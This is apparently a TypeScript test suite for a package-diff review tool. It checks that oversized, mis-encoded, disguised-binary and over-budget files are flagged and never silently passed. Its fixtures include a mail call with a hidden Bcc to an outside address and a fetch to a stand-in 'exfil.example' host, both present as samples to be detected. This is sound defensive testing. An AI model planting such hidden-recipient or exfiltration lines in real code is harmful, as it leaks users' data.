import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { withLimits } from "../../src/common/limits.js";
import { MAX_BODY, renderMarkdown } from "../../src/render/markdown.js";
import { review, snap } from "../helpers/fixtures.js";

const line = `var a=${JSON.stringify("x".repeat(60))};`;
const fiveMb = line.repeat(Math.ceil(5_000_000 / line.length));

describe("hostile shapes of package content", () => {
  it("a 5 MB single-line file is split, diffed and rendered within bounds", () => {
    const r = review(
      snap("1", { "a.js": fiveMb.slice(0, fiveMb.length / 2) }),
      snap("2", { "a.js": fiveMb }),
      { limits: withLimits() },
    );
    assert.equal(r.complete, true);
    const change = r.diff.files.find((f) => f.path === "a.js")!;
    assert.ok(change.added > 1000, "the one line became many diffable lines");
    assert.ok(
      change.hunks.flatMap((h) => h.lines).every((l) => l.text.length <= 1000),
      "no display line is a megabyte",
    );
    assert.ok(renderMarkdown(r).length <= MAX_BODY);
  });

  it("with the text cap below it, the file is reported unreviewable by size and hash, never silently passed", () => {
    const r = review(
      snap("1", { "a.js": "x;\n" }, withLimits({ maxTextFileBytes: 1_000_000 })),
      snap("2", { "a.js": fiveMb }, withLimits({ maxTextFileBytes: 1_000_000 })),
      {
        limits: withLimits({ maxTextFileBytes: 1_000_000 }),
      },
    );
    const f = r.findings.find((x) => x.rule === "unreviewable" && x.file === "a.js")!;
    assert.match(f.message, /over the 1000000-byte text limit changed \(sha256 [0-9a-f]{16}…\)/);
    assert.equal(r.risk, "medium");
    // Code nobody read makes the analysis incomplete (it said complete before: a padded index.js passed).
    assert.equal(r.complete, false);
    const added = review(
      snap("1", {}),
      snap("2", { "a.js": fiveMb }, withLimits({ maxTextFileBytes: 1_000_000 })),
      {
        limits: withLimits({ maxTextFileBytes: 1_000_000 }),
      },
    );
    assert.equal(added.complete, false);
    // A data file nobody loads as code stays a non-blocking note.
    const doc = review(
      snap("1", {}),
      snap("2", { "big.txt": fiveMb }, withLimits({ maxTextFileBytes: 1_000_000 })),
      {
        limits: withLimits({ maxTextFileBytes: 1_000_000 }),
      },
    );
    assert.equal(doc.complete, true);
  });

  const BCC = 'const m = { To: to, Bcc: "x@giftshop-mail.club" };\nsend(m);\n';
  for (const [label, bytes] of [
    [
      "one Latin-1 byte in a comment",
      Buffer.concat([Buffer.from("// caf"), Buffer.from([0xe9]), Buffer.from(`\n${BCC}`)]),
    ],
    ["one NUL byte in a string", Buffer.from(`const z = "\u0000";\n${BCC}`.replace("\\u0000", "\0"))],
  ] as const) {
    it(`code with ${label} is still reviewed as code, and the Bcc line is found`, () => {
      const r = review(snap("1", { "index.js": "send({});\n" }), snap("2", { "index.js": bytes }), {
        limits: withLimits(),
      });
      assert.equal(r.files.binary, 0);
      assert.ok(
        r.findings.some((f) => f.rule === "hidden-recipient" && f.file === "index.js" && f.line === 2),
      );
      assert.equal(r.risk, "critical");
      assert.ok(r.findings.some((f) => f.rule === "unreviewable" && /invalid UTF-8 or NUL/.test(f.message)));
    });
  }

  it("an executable image named .js stays binary (Node would not run it as code)", () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(64)]);
    const r = review(snap("1", {}), snap("2", { "index.js": elf }), { limits: withLimits() });
    assert.equal(r.files.binary + r.files.added, 1);
    assert.ok(r.findings.some((f) => f.rule === "binary-added"));
  });

  it("past the package's changed-text budget, files are listed unread and the review is incomplete", () => {
    const limits = withLimits({ maxChangedTextBytes: 2_500 });
    const body = (tag: string) => `export const v = "${tag.repeat(500)}";\n`; // ~520 bytes
    const a = snap("1", { "a.js": body("a"), "b.js": body("b"), "c.js": body("c"), "gone.js": body("g") });
    const b = snap("2", {
      "a.js": body("A"),
      "b.js": body("B"),
      "c.js": `${body("C")}fetch("https://exfil.example/x");\n`,
      "new.js": body("n"),
    });
    const r = review(a, b, { limits });
    const byPath = Object.fromEntries(r.diff.files.map((f) => [f.path, f]));
    // a.js and b.js (about 1 KB each, old + new) fit; what follows is over the budget.
    assert.equal(byPath["a.js"]!.status, "modified");
    assert.equal(byPath["b.js"]!.status, "modified");
    for (const p of ["c.js", "new.js", "gone.js"]) {
      assert.equal(byPath[p]!.status, "too-large", p);
      assert.equal(byPath[p]!.skipped, true, p);
      assert.deepEqual(byPath[p]!.hunks, [], p);
    }
    assert.equal(r.complete, false);
    assert.match(
      r.incomplete.join("\n"),
      /c\.js: not diffed: the changed text of this package exceeds the 2500-byte review limit/,
    );
    // Nothing is claimed about the unread files: no rule ran on them.
    assert.ok(r.findings.every((f) => f.rule === "unreviewable" || !["c.js", "new.js"].includes(f.file)));
    assert.ok(renderMarkdown(r).includes("c.js"));
  });
});
